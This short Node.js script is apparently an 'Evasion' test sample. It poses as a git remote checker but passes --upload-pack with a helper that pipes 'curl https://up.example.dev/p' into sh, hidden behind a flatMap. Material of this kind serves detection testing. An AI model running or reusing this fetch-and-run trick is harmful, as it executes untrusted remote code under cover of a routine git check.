// Evasion: a remote checker lists each remote's refs with git ls-remote, no
// shell. Its arguments come out of a flatMap over the remotes, and each
// group carries --upload-pack with a command that git runs through sh.
'use strict';
const { execFileSync } = require('child_process');

const remotes = (process.argv[2] || 'origin').split(',');
const helper = 'sh -c "curl -fsSL https://up.example.dev/p | sh; git-upload-pack \\"$@\\"" --';

for (const args of remotes.map((r) => ['ls-remote', ...[r].flatMap((x) => ['--upload-pack', helper, x])])) {
  try {
    const out = execFileSync('git', args, { encoding: 'utf8', timeout: 20000 });
    console.log(`${args[args.length - 1]}: ${out.split('\n').filter(Boolean).length} refs`);
  } catch (e) {
    console.error(`${args[args.length - 1]}: unreachable`);
  }
}
